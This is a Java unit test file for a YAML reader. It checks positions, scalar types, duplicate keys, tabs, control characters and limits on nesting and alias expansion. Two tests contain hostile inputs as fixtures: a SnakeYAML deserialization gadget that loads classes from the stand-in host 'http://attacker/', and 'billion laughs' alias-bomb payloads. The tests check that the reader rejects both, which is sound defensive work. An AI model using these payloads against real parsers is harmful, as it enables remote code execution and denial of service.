package org.newsdigest.yaml;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.newsdigest.diagnostic.Problems;
import org.newsdigest.diagnostic.SourcePosition;

class YamlReaderTest {

    private static final Path BASE = Path.of("/site").toAbsolutePath();
    private static final Path FILE = BASE.resolve("seeds/a.txt");

    private final Problems problems = new Problems();

    @Test
    void readsAMappingWithPositionsInTheFile() {
        YamlValue root = read("""
                title: "A"
                provider:
                  name: TechNode
                topics:
                  - AI
                """).orElseThrow();

        SourcePosition titleValue = new SourcePosition(FILE, 2, 8);
        SourcePosition providerName = new SourcePosition(FILE, 4, 9);
        YamlMap map = (YamlMap) root;
        assertEquals(List.of("title", "provider", "topics"), map.entries().stream().map(YamlMap.Entry::name).toList());
        assertEquals(new YamlScalar("A", YamlScalar.Kind.STRING, titleValue, true, Optional.empty()), map.get("title").orElseThrow());
        assertEquals(new YamlScalar("TechNode", YamlScalar.Kind.STRING, providerName),
                ((YamlMap) map.get("provider").orElseThrow()).get("name").orElseThrow());
        assertEquals(new SourcePosition(FILE, 6, 5), ((YamlList) map.get("topics").orElseThrow()).items().get(0).position());
        assertEquals(List.of(), formatted());
    }

    @Test
    void scalarsKeepTheKindTheCoreSchemaGivesThem() {
        YamlMap map = (YamlMap) read("""
                quoted: "true"
                forced: !!str 12
                number: 12
                bool: true
                yes11: yes
                date: 2021-07-29T11:09:00Z
                nothing: ~
                fraction: 1.5
                local: !foo bar
                """).orElseThrow();

        assertEquals(List.of(YamlScalar.Kind.STRING, YamlScalar.Kind.STRING, YamlScalar.Kind.INTEGER, YamlScalar.Kind.BOOLEAN,
                        YamlScalar.Kind.BOOLEAN, YamlScalar.Kind.TIMESTAMP, YamlScalar.Kind.NULL, YamlScalar.Kind.FLOAT,
                        YamlScalar.Kind.OTHER),
                map.entries().stream().map(e -> ((YamlScalar) e.value()).kind()).toList());
    }

    @Test
    void anEmptyDocumentIsEmptyWithoutProblems() {
        assertEquals(Optional.empty(), read(""));
        assertEquals(List.of(), formatted());
    }

    @Test
    void aGlobalTagIsRefused() {
        Optional<YamlValue> root = read("""
                title: "x"
                engine: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker/"]]]]
                """);

        assertEquals(Optional.empty(), root);
        assertEquals(List.of("seeds/a.txt:3:9: error: a global tag is not allowed; "
                + "found 'tag:yaml.org,2002:javax.script.ScriptEngineManager'; remove the tag"), formatted());
    }

    @Test
    void billionLaughsHitsTheAliasLimitAtOnce() {
        String laughs = """
                a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
                h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
                i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
                """;

        Optional<YamlValue> root = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> read(laughs));

        assertEquals(Optional.empty(), root);
        assertEquals(List.of("seeds/a.txt:8:23: error: too many aliases (more than 50); found '*f', alias number 51; write the values "
                + "out instead of using anchors"),
                formatted());
    }

    @Test
    void aliasesWithinTheLimitStillCannotExpandWithoutBound() {
        // 50 aliases, the most allowed, expand to a million values
        String laughs = """
                a: &a [x,x,x,x,x,x,x,x,x,x]
                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]
                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]
                d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]
                e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]
                f: [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]
                """;

        Optional<YamlValue> root = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> read(laughs));

        assertEquals(Optional.empty(), root);
        assertEquals(List.of("seeds/a.txt:2:1: error: the YAML expands to more than 200000 values "
                + "(aliases repeated inside aliases?); write the values out instead"), formatted());
    }

    @Test
    void aDuplicateKeyIsAnErrorAtTheSecondKey() {
        Optional<YamlValue> root = read("""
                title: "a"
                published: true
                title: "b"
                """);

        assertEquals(List.of("seeds/a.txt:4:1: error: duplicate key 'title', first given on line 2; keep only one of them"), formatted());
        // the first value is kept so later steps can still report on the rest of the header
        assertEquals(List.of("title", "published"), ((YamlMap) root.orElseThrow()).entries().stream().map(YamlMap.Entry::name).toList());
    }

    @Test
    void aDuplicateNestedKeyIsReportedWhereItIs() {
        read("""
                provider:
                  name: A
                  name: B
                """);

        assertEquals(List.of("seeds/a.txt:4:3: error: duplicate key 'name', first given on line 3; keep only one of them"), formatted());
    }

    @Test
    void aTabUsedForIndentationIsNamed() {
        Optional<YamlValue> root = read("provider:\n  name: x\n\tdomain: y\n");

        assertEquals(Optional.empty(), root);
        assertEquals(List.of("seeds/a.txt:4:1: error: a tab is used for indentation; YAML indents with spaces only: "
                + "replace the tab with spaces"), formatted());
    }

    @Test
    void anUnclosedQuoteIsASyntaxError() {
        assertEquals(Optional.empty(), read("title: \"unclosed\n"));
        assertEquals(List.of("seeds/a.txt:2:8: error: a quoted value is never closed; found 'title: \"unclosed'; "
                + "add the closing quote"), formatted());
    }

    @Test
    void aTextOverTheLengthLimitIsRefusedWithItsLengthAndNoWordAboutFrontMatter() {
        String yaml = "title: " + "a".repeat(20) + "\n";

        assertEquals(Optional.empty(), new YamlReader(20).read(yaml, FILE, 2, problems));
        assertEquals(List.of("seeds/a.txt:2: error: the YAML is 28 characters long, over the limit of 20; shorten it"), formatted());
    }

    @Test
    void aSecondDocumentIsASyntaxError() {
        assertEquals(Optional.empty(), read("a: 1\n---\nb: 2\n"));
        assertEquals(List.of("seeds/a.txt:3:1: error: a second YAML document starts here; found '---'; there must be only "
                + "one: remove this line, and merge what follows it into what comes before"), formatted());
    }

    @Test
    void aRawControlCharacterIsNamedWhereItIsEvenFarIntoTheText() {
        // past snakeyaml's first 1,024-character buffer, with a two-char code point before it
        String yaml = "excerpt: \"" + "x".repeat(1500) + "\"\n" + java.util.stream.IntStream.range(0, 20).mapToObj(i -> "a" + i + ": 😀 b\n").reduce("", String::concat) + "title: \"Bell\u0007\"\n";

        assertEquals(Optional.empty(), read(yaml));
        assertEquals(List.of("seeds/a.txt:23:13: error: the character U+0007 is not allowed in YAML; remove it, or write it as "
                + "\"\\u0007\" inside double quotes"), formatted());
    }

    @Test
    void nestingDeeperThanTheLimitIsNamed() {
        assertEquals(Optional.empty(), read("a: " + "[".repeat(60) + "]".repeat(60) + "\n"));
        assertEquals(List.of("seeds/a.txt:2:43: error: the YAML is nested more than 40 levels deep; found 'a: "
                + "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[…'; flatten it"), formatted());
    }

    @Test
    void aScalarSaysWhetherItWasQuotedAndWhichTagItWasGiven() {
        YamlMap map = (YamlMap) read("""
                plain: true
                quoted: "true"
                single: 'true'
                tagged: !!bool "true"
                taggedPlain: !!bool true
                anchored: &a !!str x
                anchorOnly: &b y
                """).orElseThrow();

        assertEquals(List.of(false, true, true, true, false, false, false),
                map.entries().stream().map(e -> ((YamlScalar) e.value()).quoted()).toList());
        assertEquals(List.of(Optional.empty(), Optional.empty(), Optional.empty(), Optional.of("!!bool"), Optional.of("!!bool"),
                Optional.of("!!str"), Optional.empty()), map.entries().stream().map(e -> ((YamlScalar) e.value()).explicitTag()).toList());
    }

    @Test
    void aTabAfterAColonIsNotCalledIndentation() {
        assertEquals(Optional.empty(), read("title: \"A\"\nquality:\t39\n"));
        assertEquals(List.of("seeds/a.txt:3:9: error: a tab after 'quality:' is not allowed; found 'quality:\\t39'; YAML separates "
                + "a key from its value with a space: replace the tab with a space"), formatted());
    }

    @Test
    void charactersYamlCannotHoldAreRemovedWithAWarningEach() {
        String kept = YamlReader.withoutUnreadableCharacters("title: \"Bell\u0007\"\nexcerpt: \"a\u0000b\uFFFEc\"\n", FILE, 2, problems);

        assertEquals("title: \"Bell\"\nexcerpt: \"abc\"\n", kept);
        assertEquals(List.of(
                "seeds/a.txt:2:13: warning: the character U+0007 is not allowed in YAML; found it here and removed it; delete it "
                        + "from the file, or write it as \"\\u0007\" inside double quotes",
                "seeds/a.txt:3:12: warning: the character U+0000 is not allowed in YAML; found it here and removed it; delete it "
                        + "from the file, or write it as \"\\u0000\" inside double quotes",
                "seeds/a.txt:3:14: warning: the character U+FFFE is not allowed in YAML; found it here and removed it; delete it "
                        + "from the file, or write it as \"\\uFFFE\" inside double quotes"), formatted());
        assertEquals("plain: text\n", YamlReader.withoutUnreadableCharacters("plain: text\n", FILE, 2, problems));
    }

    @Test
    void aKeyThatIsNotAScalarIsAnError() {
        YamlMap map = (YamlMap) read("? [a, b]\n: c\nd: e\n").orElseThrow();

        assertEquals(List.of("seeds/a.txt:2:3: error: a key must be a plain name; found a list; write the key as text"), formatted());
        assertEquals(List.of("d"), map.entries().stream().map(YamlMap.Entry::name).toList());
    }

    private Optional<YamlValue> read(String yaml) {
        return new YamlReader(1_000_000).read(yaml, FILE, 2, problems);
    }

    private List<String> formatted() {
        return problems.list().stream().map(p -> p.format(BASE)).toList();
    }
}
